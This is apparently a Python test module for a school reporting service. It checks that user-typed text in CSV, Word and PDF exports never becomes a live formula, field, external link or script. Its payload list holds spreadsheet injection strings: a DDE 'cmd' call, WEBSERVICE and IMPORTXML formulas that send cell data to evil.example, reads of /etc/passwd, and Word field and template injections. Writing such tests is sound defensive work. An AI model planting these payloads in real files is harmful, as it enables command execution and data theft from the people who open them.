"""D2: what somebody typed is a text in every file we give: never a formula, a link that is fetched, or a file inside."""

import csv
import io
import random
import zipfile
from collections import Counter
from collections.abc import Iterator
from contextlib import ExitStack
from pathlib import Path
from unittest.mock import patch
from uuid import uuid4

import pikepdf
from defusedxml.ElementTree import fromstring

from lib.domain.inzicht import Schoolplek
from lib.report import pdf, word
from lib.services import inzicht
from tests.meet.rijen import Rij, hoogstens
from tests.report.voorbeelden import STIJL, met

BEGIN = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u00a0=",
    "\ufeff=",
    "＝",
    "＋",
    "－",
    "＠",
    "\x00=",
    "'=",
    '"=',
    ";=",
)
VERVOLG = (
    "cmd|'/C calc'!A0",
    'HYPERLINK("https://evil.example/","klik")',
    'WEBSERVICE("https://evil.example/?x="&A1)',
    'IMPORTXML("https://evil.example/","//a")',
    "1+1",
    "SUM(A1:A9)",
    '#import "/etc/passwd": *',
    '#image("/etc/passwd")',
    '<img src="https://evil.example/x.png">',
    "</w:t></w:r><w:fldSimple w:instr='INCLUDETEXT C:/x'/>",
    "{{ 7*7 }}",
)
FORMULE = frozenset("=+-@＝＋－＠")
VERBODEN_WORD = frozenset({"fldSimple", "instrText", "oleObject", "altChunk", "attachedTemplate"})
BUITEN_WORD = "External"
VERBODEN_PDF = ("/URI", "/EmbeddedFiles", "/JavaScript", "/Launch", "/AA", "/OpenAction", "/GoToR")


def d2(map_: Path, *, lang: bool, fout: bool = False) -> list[Rij]:
    """Write hostile texts to CSV, Word and PDF and read them back; the fault writes cells as they were typed."""
    del map_
    cellen, bladen = (200, 0) if fout else (10_000, 200 if lang else 10)
    teksten = list(_teksten(cellen))
    with ExitStack() as stapel:
        if fout:
            stapel.enter_context(patch.object(inzicht, "veilig", lambda tekst: tekst))
        gelezen = list(_csv(teksten))
    formules = [cel for cel in gelezen if is_formule(cel)]
    rijen = [hoogstens("D2a csv", "cellen die een rekenblad uitvoert", waarde=len(formules), van=f"{len(gelezen)} cellen uit {len(teksten)} teksten{_noem(formules)}", grens=0)]  # fmt: skip
    if fout:
        return rijen
    steekproef = random.Random(2).sample(teksten, bladen)
    word_mis = [naam for tekst in steekproef for naam in _word(tekst)]
    pdf_mis = [naam for tekst in steekproef for naam in _pdf(tekst)]
    van = f"{bladen} bestanden met de tekst op elke plek"
    return [
        *rijen,
        hoogstens("D2b word", "velden, bestanden of adressen van buiten in Word", waarde=len(word_mis), van=van + _noem(word_mis), grens=0),
        hoogstens("D2c pdf", "adressen, scripts of bestanden in PDF", waarde=len(pdf_mis), van=van + _noem(pdf_mis), grens=0),
    ]  # fmt: skip


def _noem(wat: list[str]) -> str:
    return f"; {', '.join(map(repr, sorted(set(wat))[:5]))}" if wat else ""


def _teksten(aantal: int) -> Iterator[str]:
    toeval = random.Random(1)
    for nummer in range(aantal):
        yield f"{toeval.choice(BEGIN)}{toeval.choice(VERVOLG)} {nummer}"


def _csv(teksten: list[str]) -> Iterator[str]:
    """Give every cell that one typed text became, as a spreadsheet reads them."""
    scholen = tuple(Schoolplek(uuid4(), tekst, uuid4(), "x") for tekst in teksten)
    uit = inzicht.als_csv(inzicht.Overzicht("2026-2027", None, scholen, {}))
    for rij in csv.reader(io.StringIO(uit.decode("utf-8-sig"), newline=""), delimiter=";"):
        yield from rij


def is_formule(cel: str) -> bool:
    """Tell whether a spreadsheet would run a cell: it looks past what it does not print."""
    kaal = cel.lstrip(" \t\r\n\x00\u00a0\ufeff")
    return kaal[:1] in FORMULE and kaal not in FORMULE


def _word(tekst: str) -> Iterator[str]:
    """Name what is in the file more often than with a plain word in the same places."""
    yield from (_in_word(tekst) - _in_word("gewoon")).elements()


def _in_word(tekst: str) -> Counter[str]:
    with zipfile.ZipFile(io.BytesIO(word.zet(met(tekst), STIJL))) as bestand:
        return Counter(naam for deel in bestand.namelist() for naam in in_deel(deel, bestand.read(deel)))


def in_deel(naam: str, inhoud: bytes) -> Iterator[str]:
    """Name what does something in a part of a Word file: an element or an address, not a text that is called so."""
    if "embed" in naam.lower():
        yield naam
    if not naam.endswith((".xml", ".rels")):
        return
    for element in fromstring(inhoud).iter():
        if (soort := element.tag.rpartition("}")[2]) in VERBODEN_WORD:
            yield f"{soort} in {naam}"
        if element.get("TargetMode") == BUITEN_WORD:
            yield f"{BUITEN_WORD} in {naam}"


def _pdf(tekst: str) -> Iterator[str]:
    with pikepdf.open(io.BytesIO(pdf.zet(met(tekst), STIJL))) as document:
        for ding in document.objects:
            if isinstance(ding, pikepdf.Dictionary):
                yield from (naam for naam in VERBODEN_PDF if naam in ding)
